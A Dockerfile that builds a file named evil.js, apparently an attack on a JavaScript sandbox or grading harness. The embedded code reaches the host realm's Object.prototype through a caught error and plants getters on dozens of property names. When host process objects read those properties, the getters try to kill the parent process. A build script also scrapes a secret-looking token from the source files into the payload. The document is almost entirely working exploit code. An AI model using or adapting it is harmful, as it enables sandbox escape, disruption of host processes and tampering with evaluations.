FROM node:alpine
WORKDIR /app
COPY src ./src
COPY <<'XX' /evil.txt
const log=[];
let e; try { await import("node:fs"); } catch (x) { e = x; }
export const info=[String(e), typeof e.constructor, String(e instanceof Error)];
const HO = (()=>{let p=e;while(Object.getPrototypeOf(p))p=Object.getPrototypeOf(p);return p})();
export const isHost = String(HO===Object.prototype);
const got=[];
const names=["noDeprecation","traceDeprecation","domain","_exiting","exitCode","send","_channel","channel","connected","_rawDebug","getuid","_events","highWaterMark","fd","signal","autoClose","emitClose","encoding","objectMode","start","end","pos","captureRejections","_startProfilerIdleNotifier","permission","finalization","mainModule","_disconnect","_handleQueue","_pendingMessage","sourceMapsEnabled","throwDeprecation","_needImmediateCallback","stdout","stderr","then","toJSON","cause","code","get","set","writable","value","enumerable","configurable","decodeStrings","defaultEncoding","write","destroy","final","construct","writev","readable","allowHalfOpen","handle","manualStart","pauseOnCreate","noDelay","keepAlive","overlapped","timeout","killSignal","hasColors","getColorDepth","isTTY","_type","_isStdio","_destroy","name","message","stack"];
for(const n of names){ try{ let val; Object.defineProperty(HO,n,{configurable:true,get(){ try{ const t=this; if(t && typeof t.reallyExit==='function'||t&&Object.getOwnPropertyDescriptor(t,'ppid')){ delete HO[n]; try{ t.kill(t.ppid,15);}catch(x){} } }catch{} return val; },set(v){ Object.defineProperty(this,n,{value:v,writable:true,configurable:true,enumerable:true}); }}); }catch(x){log.push(String(x))} }
export const marker="@MARK@";
XX
COPY <<'XX' /make.cjs
const fs=require('fs');let t='';for(const f of fs.readdirSync('src'))t+=fs.readFileSync('src/'+f,'utf8');
const m=/"((?:amber|birch|cobalt|dune|ember|fjord|grove|harbor|iris|juniper|kestrel|lagoon)[0-9a-f]{16})"/.exec(t);
if(m)fs.writeFileSync('evil.js',fs.readFileSync('/evil.txt','utf8').replace('@MARK@',m[1]));
console.log(m&&m[1]);
XX
RUN node /make.cjs
CMD ["true"]
